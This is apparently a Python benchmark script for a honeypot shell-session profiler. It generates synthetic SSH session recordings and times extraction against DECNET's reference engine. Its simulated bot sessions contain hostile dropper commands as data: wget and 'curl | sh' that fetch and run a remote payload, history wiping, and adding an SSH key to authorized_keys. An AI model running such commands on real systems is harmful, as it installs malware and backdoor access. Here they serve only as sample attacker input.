#!/usr/bin/env python3
"""End-to-end benchmark of behave-shell-native, with DECNET's engine beside it.

Usage::

    python bench/run.py [--quick] [--reference PATH] [--keep DIR]

Everything it measures is generated first, deterministically, into a
temporary directory (or ``--keep DIR``): a day shard of mixed sessions in
DECNET's recorder format (~100 MB, 500 sessions), single sessions of 200,
2,000 and 8,000 typed commands, and a 10 MB output-heavy session. It then
prints one Markdown table: shard reads (``events_for_sid`` cold and warm),
``extract_session`` per size, ``extract_shard`` on one and on all cores, the
session-ended handler end to end into SQLite, peak RSS per phase (each in a
fresh subprocess), and the worst asyncio event-loop stall while a 10 MB
session is extracted.

When DECNET's reference engine is importable (``decnet.profiler.behave_shell``,
or after ``--reference PATH`` puts PATH on ``sys.path``), each row also gets
the reference's time, measured in the same run on the same inputs, and the
ratio. The reference needs about 30 s for the 8,000-command session and as
much for a pass over the 100 MB shard; ``--quick`` shrinks every input (the
table says so) for a run of a minute or two.

Every measurement checks its answer: observation counts, and equality with
the reference's observations when it is there. Only the standard library and
the package are used. This is not part of the test suite.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import gc
import heapq
import inspect
import json
import os
import platform
import random
import resource
import subprocess
import sys
import tempfile
import time
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

CHUNK_BYTES = 975
PROMPT = "root@decoy:~# "
_SHORT_ESCAPES = {0x08: b"\\b", 0x09: b"\\t", 0x0A: b"\\n", 0x0C: b"\\f", 0x0D: b"\\r"}

# ── input generation ─────────────────────────────────────────────────────────

_OUTPUTS = {
    "id": "uid=0(root) gid=0(root) groups=0(root)",
    "whoami": "root",
    "uname -a": "Linux decoy 5.15.0-91-generic #101-Ubuntu SMP x86_64 GNU/Linux",
    "pwd": "/root",
    "w": (
        " 10:14:02 up 41 days,  3:07,  1 user,  load average: 0.08, 0.03, 0.01\n"
        "USER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU WHAT\n"
        "root     pts/0    203.0.113.50     10:13    1.00s  0.02s  0.00s w"
    ),
    "ls -la --color": (
        "total 28\n"
        "\x1b[01;34mdrwx------\x1b[0m  4 root root 4096 Apr 30 09:12 \x1b[01;34m.\x1b[0m\n"
        "-rw-------  1 root root  512 Apr 30 09:12 .bash_history\n"
        "-rw-r--r--  1 root root 3106 Oct 15  2021 .bashrc"
    ),
    "cat /etc/passwd": (
        "root:x:0:0:root:/root:/bin/bash\n"
        "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
        "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin"
    ),
    "nproc": "2",
    "free -m": (
        "               total        used        free      shared  buff/cache   available\n"
        "Mem:            1987         412         903           1         671        1402"
    ),
    "df -h": (
        "Filesystem      Size  Used Avail Use% Mounted on\n/dev/xvda1       39G  9.9G   29G  26% /"
    ),
    "netstat -tlnp": (
        "Active Internet connections (only servers)\n"
        "tcp        0      0 0.0.0.0:22      0.0.0.0:*       LISTEN 611/sshd"
    ),
    "cd /tmp": "",
    "locale": 'LANG=fr_FR.UTF-8\nLC_CTYPE="fr_FR.UTF-8"',
    "cat motd": (
        "Bienvenue sur le serveur de d\u00e9veloppement \u2014 acc\u00e8s r\u00e9serv\u00e9"
    ),
    "ls /nonexistent": "ls: cannot access '/nonexistent': No such file or directory",
    "history": "    1  id\n    2  whoami\n    3  uname -a",
    "echo ok": "ok",
    "crontab -l": "no crontab for root",
}
_UNKNOWN = ("ifconfig", "sudo su", "python3 -V", "docker ps")
_COMMANDS = (*_OUTPUTS, *_UNKNOWN)
_BOT_LINES = (
    "cd /tmp || cd /var/run || cd /dev/shm",
    "wget http://198.51.100.23/bins/x86 -O .x; chmod +x .x; ./.x ssh.bot",
    "curl -s http://198.51.100.23/bins/sh | sh",
    "rm -rf .x; history -c",
    "echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ== bot' >> ~/.ssh/authorized_keys",
)


def _output_for(command: str) -> str:
    if command in _OUTPUTS:
        return _OUTPUTS[command]
    return f"-bash: {command.split()[0]}: command not found"


def _crlf(text: str) -> bytes:
    return text.replace("\n", "\r\n").encode()


def _escape(chunk: bytes) -> bytes:
    """The recorder's escaping: quote, backslash, control bytes and DEL only."""
    out = bytearray()
    for byte in chunk:
        if byte in (0x22, 0x5C):
            out += b"\\" + bytes([byte])
        elif byte in _SHORT_ESCAPES:
            out += _SHORT_ESCAPES[byte]
        elif byte < 0x20 or byte == 0x7F:
            out += b"\\u%04x" % byte
        else:
            out.append(byte)
    return bytes(out)


_LOG = _crlf(
    "".join(
        f"May  2 0{i % 10}:{i % 60:02d}:{(i * 7) % 60:02d} decoy sshd[{1000 + i}]: Failed password"
        f" for {'root' if i % 3 else 'admin'} from 203.0.113.{i % 250} port {40000 + i} ssh2\n"
        for i in range(400)
    )
)
"""About 38 KB of log, the output-heavy sessions' staple."""


@dataclass
class Session:
    """One session being written: its clock runs in whole microseconds."""

    sid: str
    start: int
    clock_us: int = 0
    events: list[tuple[int, str, bytes]] = field(default_factory=list)

    def emit(self, ch: str, data: bytes, delay_s: float = 0.0) -> None:
        self.clock_us += round(delay_s * 1e6)
        if data:
            self.events.append((self.clock_us, ch, data))

    def lines(self) -> Iterator[tuple[float, bytes]]:
        """(wall-clock time, line) for the header and every event, in order."""
        sid = self.sid.encode()
        yield (
            float(self.start),
            b'{"sid":"%s","hdr":{"version":2,"width":80,"height":24,"timestamp":%d,'
            b'"env":{"SHELL":"/bin/bash","TERM":"xterm"}}}\n' % (sid, self.start),
        )
        for t_us, ch, raw in self.events:
            t = t_us / 1e6
            for i in range(0, len(raw), CHUNK_BYTES):
                chunk = _escape(raw[i : i + CHUNK_BYTES])
                line = b'{"sid":"%s","t":%.6f,"ch":"%s","d":"%s"}\n' % (sid, t, ch.encode(), chunk)
                yield (self.start + t, line)


def _respond(s: Session, rng: random.Random, command: str, heavy: bool = False) -> None:
    s.emit("o", b"\r\n", rng.uniform(0.0002, 0.0008))
    body = _LOG if heavy else _crlf(_output_for(command))
    if body:
        s.emit("o", body + b"\r\n", rng.uniform(0.005, 0.12))
    s.emit("o", PROMPT.encode(), rng.uniform(0.001, 0.01))


def _type(s: Session, rng: random.Random, command: str, mean: float, heavy: bool = False) -> None:
    for key in command:
        if key.isalpha() and rng.random() < 0.04:
            s.emit("i", b"s", max(0.03, rng.gauss(mean, mean / 3)))
            s.emit("o", b"s", 0.0004)
            s.emit("i", b"\x7f", max(0.08, rng.gauss(mean * 2, mean / 2)))
            s.emit("o", b"\b \b", 0.0004)
        s.emit("i", key.encode(), max(0.03, rng.gauss(mean, mean / 3)))
        s.emit("o", key.encode(), 0.0004)
    s.emit("i", b"\r", max(0.05, rng.gauss(mean * 1.5, mean / 2)))
    _respond(s, rng, command, heavy)


def _paste(s: Session, rng: random.Random, command: str, gap: tuple[float, float]) -> None:
    s.emit("i", command.encode() + b"\r", rng.uniform(*gap))
    s.emit("o", command.encode(), 0.0005)
    _respond(s, rng, command)


def _login(s: Session, rng: random.Random) -> None:
    banner = "Welcome to Ubuntu 22.04.3 LTS (GNU/Linux 5.15.0-91-generic x86_64)\n\n"
    s.emit("o", _crlf(banner), rng.uniform(0.05, 0.2))
    s.emit("o", PROMPT.encode(), rng.uniform(0.01, 0.04))


def typed_session(rng: random.Random, start: int, commands: int) -> Session:
    """A person typing: keystrokes with echo, typos fixed with DEL, pauses."""
    s = Session(str(uuid.UUID(int=rng.getrandbits(128), version=4)), start)
    _login(s, rng)
    for _ in range(commands):
        s.clock_us += round(rng.lognormvariate(0.3, 0.8) * 1e6)
        _type(s, rng, rng.choice(_COMMANDS), mean=rng.choice((0.09, 0.14, 0.2)))
    return s


def agent_session(rng: random.Random, start: int, commands: int) -> Session:
    """An automated operator pasting whole lines and reading the output."""
    s = Session(str(uuid.UUID(int=rng.getrandbits(128), version=4)), start)
    _login(s, rng)
    for _ in range(commands):
        _paste(s, rng, rng.choice(_COMMANDS), (0.6, 1.8))
    return s


def bot_session(rng: random.Random, start: int, commands: int) -> Session:
    """A dropper firing chained commands without waiting."""
    s = Session(str(uuid.UUID(int=rng.getrandbits(128), version=4)), start)
    s.emit("o", PROMPT.encode(), 0.08)
    for i in range(commands):
        _paste(s, rng, _BOT_LINES[i % len(_BOT_LINES)], (0.01, 0.05))
    return s


def heavy_session(rng: random.Random, start: int, commands: int) -> Session:
    """A person dumping logs: every command prints ~38 KB."""
    s = Session(str(uuid.UUID(int=rng.getrandbits(128), version=4)), start)
    _login(s, rng)
    for _ in range(commands):
        s.clock_us += round(rng.uniform(0.5, 3.0) * 1e6)
        _type(s, rng, "cat /var/log/auth.log", mean=0.12, heavy=True)
    return s


def write_shard(path: Path, sessions: list[Session]) -> dict[str, int]:
    """Writes the sessions interleaved by wall-clock time; returns bytes per sid."""
    sizes: dict[str, int] = {}

    def stream(index: int, s: Session) -> Iterator[tuple[float, int, int, bytes]]:
        for order, (at, line) in enumerate(s.lines()):
            yield at, index, order, line

    streams = [stream(index, s) for index, s in enumerate(sessions)]
    with path.open("wb") as out:
        for _at, index, _order, line in heapq.merge(*streams):
            out.write(line)
            sid = sessions[index].sid
            sizes[sid] = sizes.get(sid, 0) + len(line)
    return sizes


@dataclass
class Inputs:
    """Everything the benchmark reads, and what it knows about it."""

    shard: Path
    shard_sizes: dict[str, int]
    singles: dict[int, tuple[Path, str]]
    big: tuple[Path, str, int]


def generate(root: Path, quick: bool) -> Inputs:
    rng = random.Random(20260502)
    midnight = 1777680000

    # The day shard: many small sessions and a few output-heavy ones. The mix
    # is about 80% output bytes, as in real recordings.
    n_sessions = 50 if quick else 500
    makers: list[tuple[Callable[[random.Random, int, int], Session], tuple[int, int]]] = [
        (typed_session, (10, 60)),
        (agent_session, (10, 40)),
        (bot_session, (5, 10)),
        (heavy_session, (8, 25)),
    ]
    sessions = []
    for i in range(n_sessions):
        maker, (lo, hi) = makers[i % len(makers)]
        sessions.append(maker(rng, midnight + 60 * i + rng.randrange(60), rng.randint(lo, hi)))
    shard = root / "sessions-2026-05-02.jsonl"
    shard_sizes = write_shard(shard, sessions)

    singles = {}
    for commands in (200, 1000, 2000) if quick else (200, 2000, 8000):
        s = typed_session(random.Random(commands), midnight, commands)
        path = root / f"single-{commands}" / "sessions-2026-05-02.jsonl"
        path.parent.mkdir()
        write_shard(path, [s])
        singles[commands] = (path, s.sid)

    # The big session: output-heavy, 10 MB (2 MB with --quick).
    target = (2 if quick else 10) * 1_000_000
    # A command's share of the file: the log with its escaped CRs, the
    # per-event JSON around each 975-byte chunk, and the typed command.
    per_command = len(_LOG) * 23 // 20 + 3000
    s = heavy_session(random.Random(10), midnight, max(1, target // per_command))
    path = root / "big" / "sessions-2026-05-02.jsonl"
    path.parent.mkdir()
    size = write_shard(path, [s])[s.sid]
    return Inputs(shard, shard_sizes, singles, (path, s.sid, size))


# ── measuring ────────────────────────────────────────────────────────────────


def timed(fn: Callable[[], Any], *, repeat: int = 1, budget_s: float = 0.0) -> tuple[float, Any]:
    """Best wall time of ``fn`` in seconds (at least ``repeat`` runs, more while
    under ``budget_s``), and its last result."""
    best = float("inf")
    result = None
    spent = 0.0
    runs = 0
    while runs < repeat or spent < budget_s:
        gc.collect()
        t0 = time.perf_counter()
        result = fn()
        dt = time.perf_counter() - t0
        best = min(best, dt)
        spent += dt
        runs += 1
    return best, result


def triples(observations: Any) -> list[tuple[str, str, float]]:
    return [(o.primitive, str(o.value), o.confidence) for o in observations]


class Reference:
    """DECNET's engine, when importable: extract_session and its shard loop."""

    def __init__(self, path: str | None) -> None:
        if path:
            sys.path.insert(0, path)
        try:
            from decnet.profiler.behave_shell import extract_session
            from decnet.profiler.behave_shell._parse import parse_shard_line
        except ImportError as exc:
            self.available = False
            self.why = f"reference not available ({exc.name or exc})"
            return
        self.available = True
        self.why = ""
        self.extract_session = extract_session
        self.parse_shard_line = parse_shard_line

    def _events(self, path: Path, sid: str | None = None) -> Iterator[tuple[Any, Any]]:
        """The handler's loop: every line, ``json.loads``, headers, non-objects and
        (given ``sid``) other sessions left out, then ``parse_shard_line`` on what
        is left, as the handler does; yields ``(sid, event)``."""
        with open(path, encoding="utf-8", errors="surrogateescape") as f:
            for line in f:
                try:
                    rec = json.loads(line)
                except ValueError:
                    continue
                if not isinstance(rec, dict) or "hdr" in rec:
                    continue
                if sid is not None and rec.get("sid") != sid:
                    continue
                ev = self.parse_shard_line(line)
                if ev is not None:
                    yield rec.get("sid"), ev

    def events_for_sid(self, path: Path, sid: str) -> list[Any]:
        """The handler's ``_events_for_sid``: one session's events."""
        return [ev for _sid, ev in self._events(path, sid)]

    def all_sessions(self, path: Path) -> dict[str, list[Any]]:
        """One pass grouping every session's events, for the shard rows."""
        out: dict[str, list[Any]] = {}
        for sid, ev in self._events(path):
            out.setdefault(sid, []).append(ev)
        return out


@dataclass
class Row:
    what: str
    native: str
    reference: str = ""
    ratio: str = ""


def ms(seconds: float) -> str:
    return f"{seconds * 1e3:,.1f} ms" if seconds >= 0.01 else f"{seconds * 1e3:,.3f} ms"


def mb_s(nbytes: int, seconds: float) -> str:
    return f"{nbytes / 1e6 / seconds:,.0f} MB/s"


def ratio(ref: float, native: float) -> str:
    times = ref / native
    return f"{times:,.0f}x" if times >= 10 else f"{times:,.1f}x"


# ── phases ───────────────────────────────────────────────────────────────────


def bench_reads(inputs: Inputs, ref: Reference, rows: list[Row]) -> None:
    import behave_shell_native as bsn

    shard = inputs.shard
    size = shard.stat().st_size
    sids = list(inputs.shard_sizes)
    first = sids[len(sids) // 2]
    # Cold: the index is cached per path, so each try reads through a fresh
    # hard link (same file and page cache, no index yet); best of five.
    links = []
    for k in range(5):
        link = shard.with_name(f"cold-{k}-{shard.name}")
        link.unlink(missing_ok=True)
        os.link(shard, link)
        links.append(link)
    fresh = iter(links)
    cold, events = timed(lambda: bsn.events_for_sid(next(fresh), first), repeat=len(links))
    for link in links:
        link.unlink()
    assert events, "the session has events"
    bsn.events_for_sid(shard, first)  # the shard's own index, for the warm reads
    warm_sids = sids[:: max(1, len(sids) // 25)]
    t0 = time.perf_counter()
    count = sum(len(bsn.events_for_sid(shard, sid)) for sid in warm_sids)
    warm = (time.perf_counter() - t0) / len(warm_sids)
    assert count > 0
    warm_bytes = sum(inputs.shard_sizes[s] for s in warm_sids) // len(warm_sids)

    row_cold = Row(
        f"`events_for_sid`, cold (builds the index over {size / 1e6:,.0f} MB)",
        f"{ms(cold)} ({mb_s(size, cold)})",
    )
    row_warm = Row(
        f"`events_for_sid`, warm (index cached; mean of {len(warm_sids)} sessions,"
        f" {warm_bytes / 1e3:,.0f} KB each)",
        f"{ms(warm)} ({mb_s(warm_bytes, warm)})",
    )
    if ref.available:
        ref_t, ref_events = timed(lambda: ref.events_for_sid(shard, first), repeat=len(links))
        assert [tuple(e) for e in ref_events] == [tuple(e) for e in events], "same events"
        row_cold.reference = f"{ms(ref_t)} ({mb_s(size, ref_t)})"
        row_cold.ratio = ratio(ref_t, cold)
        # The reference has no index: every read is the same full pass.
        row_warm.reference = f"{ms(ref_t)} (full pass every time)"
        row_warm.ratio = ratio(ref_t, warm)
    rows += [row_cold, row_warm]


def bench_extract(inputs: Inputs, ref: Reference, rows: list[Row]) -> None:
    import behave_shell_native as bsn

    for commands, (path, sid) in inputs.singles.items():
        events = bsn.events_for_sid(path, sid)
        native, obs = timed(
            lambda events=events, sid=sid: list(bsn.extract_session(events, sid=sid)),
            repeat=3,
            budget_s=1.0,
        )
        assert len(obs) >= 30, f"{commands} commands: {len(obs)} observations"
        row = Row(
            f"`extract_session`, {commands:,} commands ({len(events):,} events;"
            " incl. building the Observation objects)",
            ms(native),
        )
        if ref.available:
            ref_events = ref.events_for_sid(path, sid)
            ref_t, ref_obs = timed(
                lambda e=ref_events, sid=sid: list(ref.extract_session(e, sid=sid)),
                repeat=3 if commands <= 200 else 1,
            )
            assert triples(ref_obs) == triples(obs), f"{commands} commands: same observations"
            row.reference = ms(ref_t)
            row.ratio = ratio(ref_t, native)
        rows.append(row)


def on_one_cpu(work: Callable[[], Any]) -> Any:
    """Runs ``work`` with this thread, and the threads it starts, on one CPU.

    ``threads=1`` alone gives one extraction worker, but the calling thread
    builds Observations beside it; pinning makes the row a true one-core
    figure. Where affinity cannot be set, ``work`` runs unpinned.
    """
    if not hasattr(os, "sched_setaffinity"):
        return work()
    saved = os.sched_getaffinity(0)
    os.sched_setaffinity(0, {min(saved)})
    try:
        return work()
    finally:
        os.sched_setaffinity(0, saved)


def bench_shard(inputs: Inputs, ref: Reference, rows: list[Row]) -> None:
    import behave_shell_native as bsn

    shard = inputs.shard
    n = len(inputs.shard_sizes)
    params = inspect.signature(bsn.extract_shard).parameters
    has_threads = "threads" in params

    # Best of five: on a shared 2-core VM a single run of either row moves by
    # 10-15%, and their ratio is a target.
    all_cores, result = timed(lambda: bsn.extract_shard(shard), repeat=5)
    assert len(result) == n and all(obs for _sid, obs in result), "every session extracted"
    cores = os.cpu_count() or 1
    ref_t = None
    if ref.available:

        def reference_shard() -> dict[str, list[Any]]:
            return {
                sid: list(ref.extract_session(events, sid=sid))
                for sid, events in ref.all_sessions(shard).items()
            }

        ref_t, ref_result = timed(reference_shard)
        assert all(triples(ref_result[sid]) == triples(obs) for sid, obs in result), "same"

    if has_threads:
        one, result = timed(
            lambda: on_one_cpu(lambda: bsn.extract_shard(shard, threads=1)), repeat=5
        )
        assert len(result) == n
        row = Row(f"`extract_shard`, 1 core ({n} sessions)", ms(one))
        if ref_t is not None:
            row.reference, row.ratio = f"{ms(ref_t)} (one core)", ratio(ref_t, one)
        rows.append(row)
    row = Row(f"`extract_shard`, all {cores} cores ({n} sessions)", ms(all_cores))
    if not has_threads:
        row.what += " (no `threads=` parameter: one-core figure not available)"
    if ref_t is not None:
        row.reference, row.ratio = f"{ms(ref_t)} (one core)", ratio(ref_t, all_cores)
    rows.append(row)


def bench_handler(inputs: Inputs, root: Path, rows: list[Row]) -> None:
    try:
        import behave_shell_native as bsn
        from behave_shell_native.store import SqliteRepository
    except ImportError:
        rows.append(Row("handler end to end into SQLite", "not available"))
        return
    handle = getattr(bsn, "handle_session_ended", None)
    if handle is None:
        try:
            from behave_shell_native.handler import handle_session_ended as handle
        except ImportError:
            rows.append(Row("handler end to end into SQLite", "not available"))
            return

    sids = list(inputs.shard_sizes)[:50]

    async def run() -> tuple[float, int]:
        db = root / "profiles.sqlite3"
        async with SqliteRepository(db) as repo:
            ips = {}
            for i, sid in enumerate(sids):
                ips[sid] = f"10.0.{i // 250}.{i % 250 + 1}"
                await repo.add_attacker(ips[sid])
            t0 = time.perf_counter()
            persisted = 0
            for sid in sids:
                payload = {
                    "session_id": sid,
                    "decky_id": "decky-01",
                    "service": "ssh",
                    "attacker_ip": ips[sid],
                    "shard_path": str(inputs.shard),
                }
                persisted += await handle(repo, payload, None, artifacts_root=root)
            return time.perf_counter() - t0, persisted

    elapsed, persisted = asyncio.run(run())
    # DECNET's own handler needs its web repository and logging packages,
    # which are not part of the reference engine: no second column here.
    assert persisted >= 30 * len(sids), f"persisted {persisted}"
    rows.append(
        Row(
            f"handler end to end into SQLite ({len(sids)} sessions of the shard,"
            f" {persisted} rows; mean per session)",
            ms(elapsed / len(sids)),
        )
    )


async def _worst_stall(work: Callable[[], Any]) -> tuple[float, float]:
    """Largest gap between the ticks of a 1 ms ticker while ``work()`` is
    awaited, and how long the work took."""
    loop = asyncio.get_running_loop()
    done = asyncio.Event()
    worst = 0.0

    async def ticker() -> None:
        nonlocal worst
        last = loop.time()
        while not done.is_set():
            await asyncio.sleep(0.001)
            now = loop.time()
            worst = max(worst, now - last)
            last = now

    task = asyncio.create_task(ticker())
    await asyncio.sleep(0.01)
    t0 = time.perf_counter()
    await work()
    elapsed = time.perf_counter() - t0
    await asyncio.sleep(0.01)
    done.set()
    await task
    return worst, elapsed


def bench_stall(inputs: Inputs, ref: Reference, rows: list[Row]) -> None:
    from behave_shell_native import _native

    path, sid, size = inputs.big

    async def idle() -> None:
        await asyncio.sleep(0.2)

    async def native() -> None:
        count, raw = await _native.extract_sid_async(path, sid)
        assert count > 0 and len(raw[2]) >= 30

    base, _ = asyncio.run(_worst_stall(idle))
    worst, elapsed = asyncio.run(_worst_stall(native))
    row = Row(
        f"worst event-loop stall, 1 ms ticker, `extract_sid_async` on a {size / 1e6:.0f} MB"
        f" session (idle loop: {ms(base)}; target < 10 ms)",
        f"{ms(worst)} (call took {ms(elapsed)})",
    )
    if ref.available:

        async def inline() -> None:
            # DECNET's handler reads and extracts inside the coroutine.
            events = ref.events_for_sid(path, sid)
            list(ref.extract_session(events, sid=sid))

        ref_worst, _ = asyncio.run(_worst_stall(inline))
        row.reference = f"{ms(ref_worst)} (read + extract inline, as its handler does)"
        row.ratio = ratio(ref_worst, worst)
    rows.append(row)


# ── peak RSS, each phase in a fresh interpreter ──────────────────────────────

_RSS_PHASES = {
    "import only": "import behave_shell_native",
    "`events_for_sid` on the shard (cold)": (
        "import behave_shell_native as b; b.events_for_sid(SHARD, SID)"
    ),
    "`extract_shard`, all cores": "import behave_shell_native as b; b.extract_shard(SHARD)",
    "`extract_session`, largest single session": (
        "import behave_shell_native as b; e = b.events_for_sid(SINGLE, SINGLE_SID);"
        " list(b.extract_session(e, sid=SINGLE_SID))"
    ),
    "`extract_sid` on the big session": (
        "from behave_shell_native import _native; _native.extract_sid(BIG, BIG_SID)"
    ),
}


def peak_rss(inputs: Inputs, rows: list[Row]) -> None:
    largest = max(inputs.singles)
    names = {
        "SHARD": str(inputs.shard),
        "SID": next(iter(inputs.shard_sizes)),
        "SINGLE": str(inputs.singles[largest][0]),
        "SINGLE_SID": inputs.singles[largest][1],
        "BIG": str(inputs.big[0]),
        "BIG_SID": inputs.big[1],
    }
    prelude = "".join(f"{k} = {v!r}\n" for k, v in names.items())
    # VmHWM, not ru_maxrss: Linux carries ru_maxrss across exec, so a child
    # of this (large) process would report this process's peak.
    epilogue = (
        "\nimport re; s = open('/proc/self/status').read()"
        "\nprint(re.search(r'VmHWM:\\s*(\\d+)', s).group(1))"
    )
    cells = []
    for name, code in _RSS_PHASES.items():
        out = subprocess.run(
            [sys.executable, "-c", prelude + code + epilogue],
            capture_output=True,
            text=True,
            check=True,
        )
        cells.append(f"{name} {int(out.stdout.split()[-1]) / 1024:,.0f} MB")
    rows.append(Row("peak RSS per phase (fresh interpreter each)", "; ".join(cells)))


# ── report ───────────────────────────────────────────────────────────────────


def machine() -> str:
    cpu = platform.processor() or "unknown CPU"
    with contextlib.suppress(OSError):
        for line in Path("/proc/cpuinfo").read_text().splitlines():
            if line.startswith("model name"):
                cpu = line.split(":", 1)[1].strip()
                break
    return f"{cpu}, {os.cpu_count()} cores, Python {platform.python_version()}, {platform.system()}"


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--quick", action="store_true", help="smaller inputs (see the table)")
    parser.add_argument("--reference", metavar="PATH", help="directory holding DECNET's `decnet`")
    parser.add_argument("--keep", metavar="DIR", help="generate into DIR and keep it")
    args = parser.parse_args(argv)

    import behave_shell_native as bsn

    ref = Reference(args.reference)
    with contextlib.ExitStack() as stack:
        if args.keep:
            root = Path(args.keep)
            root.mkdir(parents=True, exist_ok=False)
        else:
            root = Path(stack.enter_context(tempfile.TemporaryDirectory(prefix="bsn-bench-")))
        t0 = time.perf_counter()
        inputs = generate(root, args.quick)
        gen_s = time.perf_counter() - t0

        rows: list[Row] = []
        bench_reads(inputs, ref, rows)
        bench_extract(inputs, ref, rows)
        bench_shard(inputs, ref, rows)
        bench_handler(inputs, root, rows)
        bench_stall(inputs, ref, rows)
        peak_rss(inputs, rows)
        rss = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
        size = inputs.shard.stat().st_size
    print(f"## behave-shell-native {bsn.__version__} benchmark\n")
    print(f"- Machine: {machine()}")
    mode = "**--quick: reduced sizes**" if args.quick else "full sizes"
    print(
        f"- Inputs ({mode}): shard of {len(inputs.shard_sizes)} sessions,"
        f" {size / 1e6:,.0f} MB; single sessions of"
        f" {', '.join(f'{c:,}' for c in inputs.singles)} commands;"
        f" one {inputs.big[2] / 1e6:,.0f} MB session (generated in {gen_s:.0f} s)"
    )
    print(f"- Reference: {'DECNET engine, same run, same inputs' if ref.available else ref.why}")
    print(f"- Peak RSS of this process (generation included): {rss:,.0f} MB\n")
    print("| Measurement | native | reference | ratio |")
    print("|---|---|---|---|")
    for row in rows:
        reference = row.reference or ("—" if ref.available else "reference not available")
        print(f"| {row.what} | {row.native} | {reference} | {row.ratio or '—'} |")
    return 0


if __name__ == "__main__":
    sys.exit(main())
